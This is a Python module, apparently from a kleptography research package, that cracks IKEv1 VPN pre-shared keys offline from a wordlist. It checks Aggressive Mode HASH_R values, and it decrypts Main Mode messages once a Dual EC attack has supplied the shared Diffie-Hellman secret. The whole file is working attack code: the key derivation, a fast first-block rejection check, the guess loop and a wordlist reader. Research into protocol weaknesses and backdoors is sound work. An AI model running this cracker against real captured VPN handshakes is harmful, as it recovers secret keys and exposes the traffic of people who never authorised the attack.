"""IKEv1 pre-shared keys: check a known PSK, or crack one offline from a wordlist.

Aggressive Mode sends HASH_R in the clear, so every guess is checked with
one SKEYID and one HASH_R (the classic ``psk-crack`` attack, no Dual EC
needed).  Main Mode hides the hashes in MM5/MM6; once the Dual EC attack has
given g^xy each guess becomes SKEYID → SKEYID_d/a/e → Ka, and the guess is
right when MM5 decrypts to a well-formed ID, [CERT], HASH chain whose HASH_I
verifies.  A cheap first-block check (the ID payload's generic header)
rejects almost every wrong guess before the full decryption.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

from kleptolab.crypto.algorithms import Encr, Prf, decrypt
from kleptolab.ike.v1 import keys as kdf
from kleptolab.ike.v1.constants import PayloadType
from kleptolab.ike.v1.crypto import Ikev1Cipher
from kleptolab.ike.v1.payloads import HashPayload, IdPayload
from kleptolab.ike.wire import IkeHeader, WireError

__all__ = ["CrackResult", "PskContext", "crack_psk", "psk_keys", "read_wordlist"]


@dataclass(frozen=True)
class PskContext:
    """The public facts of one IKEv1 PSK phase 1, plus g^xy once the DH attack gave it.

    ``mm5`` is the initiator's first encrypted Main Mode message (header
    included); Aggressive Mode uses ``hash_r`` and ``idir_b`` instead.
    """

    prf: Prf
    encr: Encr
    key_size: int
    cky_i: bytes
    cky_r: bytes
    g_xi: bytes
    g_xr: bytes
    ni: bytes
    nr: bytes
    sai_b: bytes
    g_xy: bytes
    aggressive: bool
    mm5: bytes = b""
    hash_r: bytes = b""
    idir_b: bytes = b""

    @property
    def checkable(self) -> bool:
        """Whether the capture holds what a guess is checked against."""
        return bool(self.hash_r and self.idir_b) if self.aggressive else bool(self.mm5 and self.g_xy)


@dataclass(frozen=True)
class CrackResult:
    """The PSK that verified, its phase-1 keys, and how many guesses it took."""

    psk: bytes
    keys: kdf.Phase1Keys
    tried: int


def _derive(ctx: PskContext, psk: bytes) -> kdf.Phase1Keys:
    skeyid = kdf.skeyid_psk(ctx.prf, psk, ctx.ni, ctx.nr)
    return kdf.derive_phase1(ctx.prf, skeyid, ctx.g_xy, ctx.cky_i, ctx.cky_r, ctx.g_xi, ctx.g_xr,
                             ctx.encr, ctx.key_size)


def _first_block_ok(ctx: PskContext, keys: kdf.Phase1Keys) -> bool:
    bs = ctx.encr.block_size
    body = ctx.mm5[IkeHeader.SIZE :]
    if len(body) < bs:
        return False
    head = decrypt(ctx.encr, keys.ka, keys.iv, body[:bs])
    length = int.from_bytes(head[2:4], "big")
    return head[1] == 0 and 8 <= length <= len(body) and head[0] in _AFTER_ID


_AFTER_ID = frozenset({PayloadType.HASH, PayloadType.CERT, PayloadType.SIG, PayloadType.NOTIFY,
                       PayloadType.VENDOR_ID, PayloadType.CR})


def psk_keys(ctx: PskContext, psk: bytes) -> kdf.Phase1Keys | None:
    """The phase-1 keys if ``psk`` verifies against the capture, else None."""
    if ctx.aggressive:
        skeyid = kdf.skeyid_psk(ctx.prf, psk, ctx.ni, ctx.nr)
        expected = kdf.hash_r(ctx.prf, skeyid, ctx.g_xi, ctx.g_xr, ctx.cky_i, ctx.cky_r, ctx.sai_b, ctx.idir_b)
        return _derive(ctx, psk) if expected == ctx.hash_r else None
    keys = _derive(ctx, psk)
    if not _first_block_ok(ctx, keys):
        return None
    try:
        opened = Ikev1Cipher.from_keys(keys, ctx.encr, ctx.prf).decrypt(ctx.mm5)
    except WireError:
        return None
    idp, digest = opened.chain.body_of(IdPayload), opened.chain.first(HashPayload)
    if idp is None or digest is None:
        return None
    expected = kdf.hash_i(ctx.prf, keys.skeyid, ctx.g_xi, ctx.g_xr, ctx.cky_i, ctx.cky_r, ctx.sai_b, idp)
    return keys if digest.data == expected else None


def crack_psk(ctx: PskContext, words: Iterable[bytes]) -> CrackResult | None:
    """Try every guess in order; the first that verifies wins (None: none did)."""
    if not ctx.checkable:
        raise ValueError("the capture lacks the message a PSK guess is checked against")
    for tried, word in enumerate(words, start=1):
        keys = psk_keys(ctx, word)
        if keys is not None:
            return CrackResult(word, keys, tried)
    return None


def read_wordlist(path: Path) -> list[bytes]:
    """One guess per line (bytes as written, line ends stripped, empty lines skipped)."""
    try:
        data = path.read_bytes()
    except OSError as exc:
        raise ValueError(f"PSK wordlist {path} is unreadable: {exc.strerror}") from None
    return [w for w in (line.rstrip(b"\r") for line in data.split(b"\n")) if w]
